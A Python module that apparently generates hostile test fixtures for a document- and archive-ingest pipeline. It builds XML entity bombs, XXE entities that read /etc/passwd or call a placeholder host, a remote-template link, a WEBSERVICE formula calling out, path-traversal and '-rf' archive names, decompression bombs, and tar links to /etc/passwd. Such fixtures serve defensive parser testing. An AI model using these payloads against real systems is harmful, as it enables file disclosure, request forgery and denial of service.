"""Archives, and documents that are archives: bombs, tricks with names, entities, lies about sizes."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Iterator

WORD = "word/document.xml"
SHEET = "xl/worksheets/sheet1.xml"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
)
LINKS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="{part}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument"/></Relationships>'
)
SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = "<w:document {space}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def zipped(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, data in entries:
            made.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, compress_type=method)
    return out.getvalue()


def docx(body: str | bytes, *more: tuple[str, bytes], first: str = "") -> bytes:
    """A Word document with this main part."""
    main = body if isinstance(body, bytes) else (first + body).encode()
    return zipped(
        ("[Content_Types].xml", TYPES.format(part=WORD, kind="wordprocessingml.document").encode()),
        ("_rels/.rels", LINKS.format(part=WORD).encode()),
        (WORD, main),
        *more,
    )


def xlsx(sheet: bytes, shared: bytes = b"") -> bytes:
    """A workbook with this sheet."""
    book = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/>'
        "</sheets></workbook>"
    )
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Target="worksheets/sheet1.xml" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'worksheet"/><Relationship Id="rId2" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/sharedStrings"/></Relationships>'
    )
    return zipped(
        ("[Content_Types].xml", TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet").encode()),
        ("_rels/.rels", LINKS.format(part="xl/workbook.xml").encode()),
        ("xl/workbook.xml", book.encode()),
        ("xl/_rels/workbook.xml.rels", links.encode()),
        (SHEET, sheet),
        ("xl/sharedStrings.xml", shared or b"<sst/>"),
    )


def said(text: str) -> str:
    return BODY.format(space=SPACE, text=text)


LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
)
ENTITIES = {
    "laughs": (LAUGHS, "&a11;"),
    "quadratic": (f"<!DOCTYPE l [<!ENTITY a '{'x' * 200_000}'>]>", "&a;" * 5_000),
    "reads-a-file": ("<!DOCTYPE l [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;"),
    "asks-a-host": ("<!DOCTYPE l [<!ENTITY a SYSTEM 'http://203.0.113.9/x'>]>", "&a;"),
    "asks-a-host-early": ("<!DOCTYPE l SYSTEM 'http://203.0.113.9/x.dtd'>", "x"),
    "parameter": ("<!DOCTYPE l [<!ENTITY % a SYSTEM 'http://203.0.113.9/x'> %a;]>", "x"),
    "calls-itself": ("<!DOCTYPE l [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "&a;"),
}


def documents() -> Iterator[tuple[str, bytes]]:
    for name, (first, text) in ENTITIES.items():
        yield f"{name}.docx", docx(said(text), first=first)
        cell = f"<row r='1'><c r='A1' t='inlineStr'><is><t>{text}</t></is></c></row>"
        yield f"{name}.xlsx", xlsx(f"{first}<worksheet><sheetData>{cell}</sheetData></worksheet>".encode())
    yield "deep.docx", docx(f"<w:document {SPACE}><w:body>" + "<w:tbl><w:tr><w:tc>" * 30_000)
    yield "forty-million-blanks.docx", docx(said(" " * 40_000_000))
    yield (
        "two-hundred-thousand-attributes.docx",
        docx(f"<w:document {SPACE} " + " ".join(f"a{n}=''" for n in range(200_000)) + "/>"),
    )
    yield (
        "half-a-million-paragraphs.docx",
        docx(f"<w:document {SPACE}><w:body>" + "<w:p/>" * 500_000 + "</w:body></w:document>"),
    )
    yield "no-main-part.docx", zipped(("[Content_Types].xml", b"<Types/>"))
    yield "main-part-is-nothing.docx", docx(b"")
    yield "main-part-is-noise.docx", docx(bytes(range(256)) * 400)
    yield "utf-16-that-is-none.docx", docx(b"<?xml version='1.0' encoding='utf-16'?>" + said("x").encode())
    yield (
        "template-from-afar.docx",
        docx(
            said("x"),
            ("word/_rels/document.xml.rels", LINKS.format(part="http://203.0.113.9/t.dotm").encode()),
        ),
    )
    row = b"<row r='%d'><c r='XFD%d'><v>1</v></c></row>"
    yield "last-cell.xlsx", xlsx(b"<worksheet><sheetData>" + row % (1048576, 1048576) + b"</sheetData></worksheet>")
    yield "a-row-beyond-all.xlsx", xlsx(b"<worksheet><sheetData>" + row % (2**60, 2**60) + b"</sheetData></worksheet>")
    yield (
        "a-sheet-of-the-whole-size.xlsx",
        xlsx(
            b"<worksheet><dimension ref='A1:XFD1048576'/><sheetData><row r='1'><c r='A1'><v>1</v></c></row></sheetData>"
            b"</worksheet>"
        ),
    )
    cells = b"".join(b"<row r='%d'><c r='A%d' t='s'><v>%d</v></c></row>" % (n, n, n) for n in range(1, 200_000))
    yield "texts-that-are-not-there.xlsx", xlsx(b"<worksheet><sheetData>" + cells + b"</sheetData></worksheet>")
    yield (
        "a-text-of-forty-megabytes.xlsx",
        xlsx(
            b"<worksheet><sheetData><row r='1'><c r='A1' t='s'><v>0</v></c></row></sheetData></worksheet>",
            b"<sst><si><t>" + b" " * 40_000_000 + b"</t></si></sst>",
        ),
    )
    yield (
        "formula.xlsx",
        xlsx(
            b"<worksheet><sheetData><row r='1'><c r='A1'><f>WEBSERVICE(\"http://203.0.113.9/\")</f><v>1</v></c></row></sheetData></worksheet>"
        ),
    )


NAMES = (
    "../../etc/cron.d/x",
    "/etc/passwd",
    "C:\\x",
    "..\\..\\x",
    "a\x00b",
    "x" * 4000,
    "\u202egpj.exe",
    "con",
    "a/" * 900 + "x",
    " ",
    ".",
    "..",
    "-rf",
    "a\nb",
    "\x1b[2Jx",
)


def archives() -> Iterator[tuple[str, bytes]]:
    for number, name in enumerate(NAMES):
        yield f"name-{number}.zip", zipped((name, b"account,ip\na,198.51.100.7\n"))
    inner = zipped(("0", bytes(10_000_000)))
    for depth in (3, 30):
        nested = inner
        for _ in range(depth):
            nested = zipped(("in.zip", nested))
        yield f"nested-{depth}.zip", nested
    yield (
        "sixteen-in-each.zip",
        zipped(*((f"{n}.zip", zipped(*((f"{m}.zip", inner) for m in range(16)))) for n in range(16))),
    )
    yield "a-quarter-of-a-gigabyte-of-nothing.zip", zipped(*((f"{n}", bytes(64 << 20)) for n in range(4)))
    yield "sixty-thousand-files.zip", zipped(*((f"{n}.txt", b"") for n in range(60_000)))
    yield "the-same-name-twice.zip", zipped(("cv.txt", b"one"), ("./cv.txt", b"two"), ("CV.txt", b"three"))
    whole = zipped(("a.csv", b"account,ip\na,198.51.100.7\n" * 99))
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield f"method-{method}.zip", zipped(("a", bytes(64 << 20)), method=method)
    for number in (1, 12, 97, 99):
        yield (
            f"says-method-{number}.zip",
            whole.replace(b"PK\x03\x04\x14\x00\x00\x00\x08", b"PK\x03\x04\x14\x00\x00\x00" + bytes([number])),
        )
    yield "locked.zip", whole.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")
    for keep in (1, 4, 22, 30, 60, -1, -4, -22, -40):
        yield f"cut-{keep}.zip", whole[:keep]
    place = whole.rindex(b"PK\x05\x06")
    for count in (0, 2, 65535):
        yield f"says-{count}-files.zip", whole[: place + 8] + struct.pack("<HH", count, count) + whole[place + 12 :]
    yield "directory-elsewhere.zip", whole[: place + 16] + struct.pack("<I", 2**32 - 2) + whole[place + 20 :]
    yield "something-before.zip", b"#!/bin/sh\n" * 1000 + whole
    yield "wrong-sum.zip", whole.replace(whole[14:18], b"\0\0\0\0")
    for label, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress)):
        yield f"bomb.csv.{label}", pack(bytes(96 << 20)) if label != "bz2" else pack(bytes(64 << 20))
        yield f"cut.csv.{label}", pack(b"account,ip\n" * 9999)[:-9]
        yield f"twice.csv.{label}", pack(pack(b"account,ip\na,198.51.100.7\n"))
    yield "a-thousand-parts.csv.gz", gzip.compress(b"a,b\n", mtime=0) * 100_000


def tapes() -> Iterator[tuple[str, bytes]]:
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE):
        entry = tarfile.TarInfo("inbox/x")
        entry.type, entry.linkname = kind, "/etc/passwd"
        yield f"kind-{kind.decode()}.tar", entry.tobuf() + bytes(1024)
    for size in (2**33 - 1, 2**40):
        entry = tarfile.TarInfo("x.csv")
        entry.size = size
        yield f"says-{size}-bytes.tar", entry.tobuf(tarfile.GNU_FORMAT) + b"account\n" + bytes(1024)
    long = tarfile.TarInfo("x" * 100_000)
    yield "a-long-name.tar", long.tobuf(tarfile.PAX_FORMAT) + bytes(1024)
    good = tarfile.TarInfo("a.csv")
    good.size = 9
    made = good.tobuf() + b"a,b\n1,2\n\n" + bytes(503)
    yield "wrong-sum.tar", made.replace(b"a.csv", b"b.csv") + bytes(1024)
    yield "no-end.tar", made
    yield "a-hundred-thousand-files.tar", tarfile.TarInfo("x").tobuf() * 100_000


def files() -> Iterator[tuple[str, bytes]]:
    yield from documents()
    yield from archives()
    yield from tapes()
